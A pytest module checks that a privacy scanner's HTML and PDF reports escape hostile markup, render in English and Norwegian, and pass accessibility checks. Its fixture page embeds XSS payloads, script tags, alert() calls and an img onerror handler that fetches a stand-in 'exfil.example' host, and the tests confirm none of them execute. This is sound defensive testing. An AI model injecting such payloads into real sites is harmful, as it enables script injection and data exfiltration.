"""The HTML and PDF reports opened in real Chromium.

- A site whose cookie names, title, link texts, banner text and form labels carry markup is scanned; its
  report, in both languages, shows the verdict, the table of contents, every area and the notice checklist;
  no script runs in it and no request leaves it (the file is self-contained), and axe-core finds no serious
  or critical accessibility violation.
- The demo site's PDF has a sane page count and carries the verdict text.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import sync_playwright
from pypdf import PdfReader

from privacyscan.cli import run_scan
from privacyscan.crawl.browser import chromium_executable
from privacyscan.demo.site import demo_web
from privacyscan.demo.webserver import Response
from privacyscan.jsdeps import js_package_dir
from privacyscan.models import Phase
from privacyscan.report import render
from privacyscan.report.model import ScanReport
from privacyscan.settings import ScanOptions

from .conftest import scan_options

pytestmark = pytest.mark.browser

HOST = "markup-report.example"
PWN = "<img src=x onerror=\"window.pwned=1;fetch('http://exfil.example/')\">"
PAGE = f"""<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Shop <script>window.pwned=1</script> {PWN}</title></head><body>
<div id="cookie-banner" role="dialog"><p>We use cookies <b>{PWN}</b>. By continuing to browse you accept
cookies.</p><button id="accept">Accept all <i>{PWN}</i></button></div>
<nav><a href="/privacy">Privacy <script>window.pwned=2</script> policy</a></nav>
<form action="/signup" method="post"><label><input type="checkbox" name="marketing" checked>
I agree to marketing e-mails {PWN}</label><input type="email" name="email"><button>Send</button></form>
<script>document.cookie = '<script>alert(1)<\\/script>=x; max-age=40000000; path=/';
document.cookie = 'x"><img src=x onerror=alert(2)>=1; max-age=60; path=/';</script>
</body></html>"""
PRIVACY = """<!doctype html><html lang="en"><head><title>Privacy policy</title></head><body><main>
<h1>Privacy policy</h1><p>Markup Shop Ltd is the controller; contact privacy@markup-report.example.</p>
<p>We process your e-mail address to send you orders, on the basis of the contract (GDPR Art. 6(1)(b)).</p>
</main></body></html>"""

AREAS = {
    "en": ("Tracking and consent", "Third-country transfers", "Forms", "Privacy notice", "Behaviour"),
    "nb": ("Sporing og samtykke", "Overføring til tredjeland", "Skjemaer", "Personvernerklæring", "Atferd"),
}
CHECKLIST = {"en": "What the notice must say", "nb": "Hva erklæringen må opplyse om"}
TOC = {"en": "Contents", "nb": "Innhold"}


@pytest.fixture(scope="module")
def markup_scan(fixture_web, tmp_path_factory) -> tuple[ScanReport, Path]:
    fixture_web.route(HOST, "/", Response(PAGE))
    fixture_web.route(HOST, "/privacy", Response(PRIVACY))
    out = tmp_path_factory.mktemp("markup-report")
    options = scan_options(fixture_web, f"http://{HOST}/", max_pages=2)
    run_scan(options, str(out), ["json", "html"], quiet=True)
    [report_path] = list(out.glob("sites/*/scans/*/report.json"))
    return ScanReport.model_validate_json(report_path.read_text()), report_path.parent


@pytest.fixture
def chromium():  # per test: a live sync Playwright holds an event loop the next scan's asyncio.run refuses
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_executable())
        yield browser
        browser.close()


def _open(browser, path: Path, *, bypass_csp: bool = False):
    context = browser.new_context(bypass_csp=bypass_csp)
    page = context.new_page()
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(path.as_uri())
    return context, page, requests, dialogs


@pytest.mark.parametrize("lang", ["en", "nb"])
def test_the_report_of_a_site_full_of_markup_is_text_only_and_complete(markup_scan, chromium, tmp_path, lang):
    report, folder = markup_scan
    assert any("<script>" in c.name for p in report.evidence.phases for c in p.cookies)  # the markup arrived
    path = tmp_path / f"report-{lang}.html"
    path.write_bytes(render(report, "html", lang=lang, artefacts=folder)["report.html"])
    context, page, requests, dialogs = _open(chromium, path)
    try:
        assert page.evaluate("document.documentElement.lang") == lang
        verdict = page.locator(".verdict-text").inner_text()
        assert verdict.startswith({"en": "Not compliant:", "nb": "Ikke i samsvar:"}[lang]), verdict
        assert page.locator("nav.toc h2").inner_text() == TOC[lang]
        toc_targets = page.locator("nav.toc a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
        for target in toc_targets:
            assert page.locator(target).count() == 1, target  # every entry leads somewhere
        areas = page.locator(".areas .area-name").all_inner_texts()
        assert tuple(areas) == AREAS[lang]
        for area in ("tracking_and_consent", "third_country_transfers", "forms", "privacy_notice", "behaviour"):
            assert page.locator(f"#area-{area} h3").count() == 1
        assert CHECKLIST[lang] in page.locator("#notice").inner_text()
        body = page.locator("body").inner_text()
        assert "<script>alert(1)</script>" in body  # the cookie's name, shown as text
        assert "onerror" in body
        assert page.evaluate("window.pwned") is None
        assert page.locator("script").count() == 0 and page.locator("img[onerror]").count() == 0
        assert dialogs == []
        assert requests == [path.as_uri()]  # nothing but the file itself: no image, font or beacon
    finally:
        context.close()


@pytest.mark.parametrize("lang", ["en", "nb"])
def test_the_report_has_no_serious_accessibility_violations(markup_scan, chromium, tmp_path, lang):
    axe = js_package_dir("axe-core")
    assert axe is not None, "npm ci --prefix vendor/js installs axe-core"
    report, folder = markup_scan
    path = tmp_path / f"report-{lang}.html"
    path.write_bytes(render(report, "html", lang=lang, artefacts=folder)["report.html"])
    # The report's CSP forbids scripts; axe is evaluated through the DevTools protocol, which it does not see.
    context, page, _, _ = _open(chromium, path, bypass_csp=True)
    try:
        page.evaluate((axe / "axe.min.js").read_text(encoding="utf-8"))
        result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    finally:
        context.close()
    serious = [
        (v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3])
        for v in result["violations"]
        if v["impact"] in ("serious", "critical")
    ]
    assert serious == []
    assert result["passes"], "axe passed no rule: it did not look at the report"
    checked = {r["id"] for r in result["passes"]} | {r["id"] for r in result["violations"]}
    assert {"color-contrast", "html-has-lang", "document-title"} <= checked  # headings and contrast looked at


def test_the_demo_sites_pdf_has_a_sane_page_count_and_the_verdict(tmp_path):
    out = tmp_path / "demo"
    with demo_web() as web:
        options = ScanOptions(site_url="https://www.demo-shop.no/", max_pages=10, max_depth=2, settle_s=0.5,
                              quiet_cap_s=3, mappings=web.mappings(), ignore_https_errors=True)
        run_scan(options, str(out), ["json", "html", "pdf", "md"], quiet=True)
    [folder] = [p.parent for p in out.glob("sites/*/scans/*/report.json")]
    report = json.loads((folder / "report.json").read_text())
    assert report["evidence"]["phases"][0]["pages"][0]["lang"] == "nb"
    assert [p["phase"] for p in report["evidence"]["phases"]] == [p.value for p in Phase]
    assert not (folder / "dropped.txt").exists()
    html = (folder / "report.html").read_text()
    assert '<html lang="nb">' in html and "data:image/jpeg;base64," in html  # the site's language, crops inline
    pdf = PdfReader(folder / "report.pdf")
    assert 4 <= len(pdf.pages) <= 40, len(pdf.pages)
    first = pdf.pages[0].extract_text()
    assert "Ikke i samsvar" in first and "alvorlige funn" in first
    assert "www.demo-shop.no" in first  # the page header (and the title)
    markdown = (folder / "report.md").read_text()
    assert markdown.startswith("## 🔴 Ikke i samsvar:") and "report.html#f-" in markdown
